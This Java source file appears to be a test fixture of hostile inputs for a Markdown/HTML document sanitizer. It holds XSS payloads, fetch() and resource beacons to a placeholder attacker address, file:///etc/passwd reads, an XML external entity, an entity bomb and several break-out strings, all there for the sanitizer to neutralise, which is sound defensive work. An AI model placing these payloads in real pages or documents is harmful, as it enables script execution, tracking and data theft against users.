package dev.mcpgateway.docgen;

import java.util.LinkedHashMap;
import java.util.Map;

/** What an attacker would write. {@code BASE} is an address that must never be asked for anything. */
final class Hostile {

    private static final String PIXEL = "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+";

    private Hostile() {}

    static Map<String, String> inputs(String base) {
        Map<String, String> inputs = new LinkedHashMap<>();
        inputs.put("script block", "<script>fetch('" + base + "/a')</script>\n\ntext");
        inputs.put("script from elsewhere", "<script src=\"" + base + "/b.js\"></script>");
        inputs.put("script in a line", "before <script>fetch('" + base + "/c')</script> after");
        inputs.put("script split by emphasis", "<scr*ipt*>alert(1)</scr*ipt*>");
        inputs.put("script in capitals", "<ScRiPt >alert(1)</sCrIpT >");
        inputs.put("script never closed", "text <script>alert(1)\n\nmore");
        inputs.put("event handler", "<p onclick=\"alert(1)\" onmouseover=alert(1)>click</p>");
        inputs.put("image with error handler", "<img src=x onerror=\"fetch('" + base + "/d')\">");
        inputs.put("javascript link", "[click](javascript:alert(1))");
        inputs.put("javascript link in capitals", "[click](JaVaScRiPt:alert(1))");
        inputs.put("javascript link with entities", "[click](java&#x0A;script:alert(1))");
        inputs.put("javascript link with tab", "[click](<java\tscript:alert(1)>)");
        inputs.put("javascript reference", "[click][x]\n\n[x]: javascript:alert(1)");
        inputs.put("javascript autolink", "<javascript:alert(1)>");
        inputs.put(
                "javascript in raw anchor",
                "<a href=\"javascript:alert(1)\">x</a>\n\n<p><a href=' javascript:alert(1)'>y</a></p>");
        inputs.put("vbscript link", "[click](vbscript:msgbox(1))");
        inputs.put("data link", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)");
        inputs.put("file link", "[passwords](file:///etc/passwd)");
        inputs.put("remote image", "![pixel](" + base + "/e.png)");
        inputs.put("remote image by reference", "![pixel][p]\n\n[p]: " + base + "/f.png");
        inputs.put("image without scheme", "![pixel](//" + base.substring(base.indexOf("//") + 2) + "/g.png)");
        inputs.put("file image", "![secret](file:///etc/passwd)");
        inputs.put("relative image", "![secret](../../../../etc/passwd)");
        inputs.put(
                "raw remote image",
                "<img src=\"" + base + "/h.png\"><picture><source srcset=\"" + base + "/i.png\"></picture>");
        inputs.put("svg data image", "![svg](" + PIXEL + ")");
        inputs.put(
                "inline svg", "<svg onload=alert(1)><script>alert(1)</script><image href=\"" + base + "/j\"/></svg>");
        inputs.put(
                "style import",
                "<style>@import url('" + base + "/k.css'); body{background:url(" + base + "/l)}</style>");
        inputs.put("style attribute", "<div style=\"background:url(" + base + "/m)\">x</div>");
        inputs.put(
                "style sheet link", "<link rel=stylesheet href=\"" + base + "/n.css\"><base href=\"" + base + "/\">");
        inputs.put(
                "frame",
                "<iframe src=\"" + base + "/o\"></iframe><iframe srcdoc=\"<script>alert(1)</script>\"></iframe>");
        inputs.put("object and embed", "<object data=\"" + base + "/p\"></object><embed src=\"" + base + "/q\">");
        inputs.put(
                "form",
                "<form action=\"" + base
                        + "/r\"><input name=a><button formaction=\"javascript:alert(1)\">x</button></form>");
        inputs.put("refresh", "<meta http-equiv=refresh content=\"0;url=" + base + "/s\">");
        inputs.put(
                "video and audio",
                "<video src=\"" + base + "/t\" autoplay></video><audio src=\"" + base + "/u\"></audio>");
        inputs.put("external entity", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>\n<x>&e;</x>");
        inputs.put("entity bomb", "<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\">]>\n\n&b;&b;");
        inputs.put("entities of tags", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;");
        inputs.put(
                "mutation",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">");
        inputs.put("noscript mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">");
        inputs.put("title break-out", "<title></title><script>alert(1)</script>");
        inputs.put("comment break-out", "<!--><script>alert(1)</script>-->");
        inputs.put("cdata", "<![CDATA[<script>alert(1)</script>]]>");
        inputs.put("attribute break-out in link", "[x](https://example.org/\"onmouseover=\"alert(1))");
        inputs.put("attribute break-out in picture", "!['\"><script>alert(1)</script>](data:image/png;base64,AAAA)");
        inputs.put("attribute break-out in heading", "# \"><script>alert(1)</script>\n\n[x](#script)");
        inputs.put(
                "code fence break-out", "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```");
        inputs.put("footnote break-out", "x[^\"><b>]\n\n[^\"><b>]: <script>alert(1)</script>");
        inputs.put("table break-out", "| <script>alert(1)</script> |\n|---|\n| </td><script>alert(1)</script> |");
        inputs.put("control characters", "a\u0000b\u0008c\u001b[31md\uFFFE\uD800e");
        inputs.put(
                "field code",
                "{page} HYPERLINK \"" + base + "/v\" </w:t><w:instrText>INCLUDETEXT \"" + base + "/w\"</w:instrText>");
        return inputs;
    }
}
